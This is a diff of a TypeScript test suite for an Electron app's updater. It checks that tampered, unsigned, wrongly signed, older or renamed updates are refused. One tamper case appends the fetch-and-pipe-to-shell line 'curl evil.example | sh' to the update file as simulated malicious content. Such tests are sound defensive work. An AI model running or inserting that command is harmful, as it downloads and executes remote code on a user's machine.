@@ -64,7 +64,14 @@ async function runningAppImage() {
 
 function control(updater: AppImageUpdater | NsisUpdater, feed: string | null, gate = updateGate(linux)) {
   const log = stateLog();
-  const controller = new UpdateController(updater as unknown as UpdaterLike, { feed, gate, every: () => () => undefined, onState: log.onState, log: () => undefined });
+  const controller = new UpdateController(updater as unknown as UpdaterLike, {
+    feed,
+    runningVersion: updater.currentVersion.version,
+    gate,
+    every: () => () => undefined,
+    onState: log.onState,
+    log: () => undefined,
+  });
   const downloaded = new Promise<string>((resolve) => updater.on('update-downloaded', (event) => resolve(event.downloadedFile)));
   return { controller, log, downloaded };
 }
@@ -88,6 +95,10 @@ describe('a Linux update checked against the key built into the app', () => {
     ['changed after signing (the manifest’s sha512 matching the changed file)', (r) => ({ ...r, signed: r.bytes, bytes: Buffer.concat([r.bytes, Buffer.from('curl evil.example | sh\n')]) })],
     ['signed by another key', (r) => ({ ...r, key: stranger.privateKey })],
     ['without a signature in the feed', (r) => ({ ...r, key: null })],
+    // Issue 33: the signature names the version and the file, so an older signed build cannot pass as this release.
+    ['signed over the bytes only (the format that let an older build pass as new)', (r) => ({ ...r, bytesOnly: true })],
+    ['signed as an older version (an older build announced as 1.3.0)', (r) => ({ ...r, signedVersion: '1.1.0' })],
+    ['signed for another file name (renamed in the feed)', (r) => ({ ...r, signedName: 'TeamTree-1.1.0-x86_64.AppImage' })],
   ];
   for (const [what, change] of refusals) {
     it(`is refused ${what}: deleted, never installed`, async () => {
@@ -104,6 +115,26 @@ describe('a Linux update checked against the key built into the app', () => {
       expect(await fs.readFile(current, 'utf8')).toBe('the running 1.2.0');
     });
   }
+
+  // allowDowngrade: what electron-updater's `channel` setter turns on; the app's own check does not depend on it.
+  // electron-updater answers 'not available' itself unless downgrades are allowed; then the app refuses ('error').
+  it.each([
+    ['older', '1.1.0', false, 'idle'],
+    ['older', '1.1.0', true, 'error'],
+    ['equal', '1.2.0', true, 'idle'],
+  ] as const)('is refused when %s (%s) than the running 1.2.0, correctly signed (allowDowngrade %s): never downloaded', async (_what, version, allowDowngrade, status) => {
+    const release = appImage(version);
+    await publish(buildFeed.dir, release);
+    const { updater, current } = await runningAppImage();
+    const { controller, log } = control(updater, buildFeed.url);
+    updater.allowDowngrade = allowDowngrade;
+    const settled = log.next('idle', 'error', 'ready', 'downloading');
+    await controller.check();
+    expect((await settled).status).toBe(status);
+    expect(buildFeed.requests).not.toContain(`/updates/${release.name}`);
+    expect(controller.installOnQuit()).toBe(false);
+    expect(await fs.readFile(current, 'utf8')).toBe('the running 1.2.0');
+  });
 
   it("without a key built in, is only offered as a download link to the feed's file, never downloaded", async () => {
     await publish(buildFeed.dir, appImage('1.3.0'));
@@ -141,10 +172,10 @@ describe('the feed is the build’s, never the chosen server’s', () => {
 
 describe('a Windows update checked against the publisher the build pins', () => {
   /** An installer whose Authenticode signer (the stand-in's answer) is `subject`. */
-  async function windowsUpdate(subject: string) {
+  async function windowsUpdate(subject: string, version = '1.3.0') {
     const bytes = Buffer.from(`${subject}\nMZ installer ${crypto.randomUUID()}`);
     // electron-updater names the manifest after the OS it runs on (latest.yml on Windows, here latest-linux.yml).
-    await publish(buildFeed.dir, { version: '1.3.0', name: 'TeamTree-Setup-1.3.0-x64.exe', bytes, key: null });
+    await publish(buildFeed.dir, { version, name: `TeamTree-Setup-${version}-x64.exe`, bytes, key: null });
     // An unsigned build's app-update.yml names no publisher: NsisUpdater then checks nothing itself.
     const { updater, userData } = await nodeUpdater(NsisUpdater, '1.2.0');
     cleanup.push(userData);
@@ -152,7 +183,7 @@ describe('a Windows update checked against the publisher the build pins', () => 
     const check = authenticodeCheck(standInPowerShell);
     updater.verifyUpdateCodeSignature = check;
     const gate = updateGate({ ...linux, platform: 'win32', publisher: 'TeamTree Ltd', codeSignature: check });
-    return control(updater, buildFeed.url, gate);
+    return { ...control(updater, buildFeed.url, gate), updater };
   }
 
   it('is refused when signed by someone else, even where NsisUpdater itself checks nothing', async () => {
@@ -161,6 +192,16 @@ describe('a Windows update checked against the publisher the build pins', () => 
     await controller.check();
     expect((await settled).status).toBe('error');
     expect(await exists(await downloaded)).toBe(false);
+    expect(controller.restart()).toBe(false);
+  });
+
+  it('is refused when older than the running app, even signed by the pinned publisher and with downgrades allowed', async () => {
+    const { controller, log, updater } = await windowsUpdate('CN=TeamTree Ltd, O=TeamTree Ltd, L=Berlin, C=DE', '1.1.0');
+    updater.allowDowngrade = true;
+    const settled = log.next('idle', 'error', 'ready', 'downloading');
+    await controller.check();
+    expect(await settled).toEqual({ status: 'error', message: 'The update was refused: it is not newer than this version.' });
+    expect(buildFeed.requests).not.toContain('/updates/TeamTree-Setup-1.1.0-x64.exe');
     expect(controller.restart()).toBe(false);
   });
 
